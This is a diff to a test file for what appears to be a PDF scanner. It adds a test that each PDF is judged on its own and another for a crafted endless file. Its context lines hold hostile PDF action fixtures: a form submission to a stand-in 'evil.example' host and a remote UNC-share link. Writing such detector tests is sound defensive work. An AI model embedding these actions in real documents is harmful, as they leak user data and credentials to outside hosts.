@@ -123,6 +123,18 @@ test('a document made to take for ever is given up; one that is only long is not
   expect(await taken(slow)).toBe(true)
 })
 
+test('each document is judged by itself, whatever its thread has read before', async () => {
+  const withScript = pdfOf({ catalog: `/OpenAction ${script}` })
+  const endless = Buffer.concat([pdfOf(), Buffer.from(`${'/S%'.repeat(200_000)}\n%%EOF\n`)])
+  const judged = async () => [
+    await Promise.all([look(pdfOf()), look(withScript), look(pdfOf())]),
+    await look(endless, 0.001),
+    await look(pdfOf()),
+  ]
+  const expected = [['nothing', 'script', 'nothing'], 'damaged', 'nothing']
+  expect([await judged(), await judged()]).toEqual([expected, expected])
+})
+
 const submit = '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>'
 const importData = '<< /S /ImportData /F (a.fdf) >>'
 const remote = '<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'
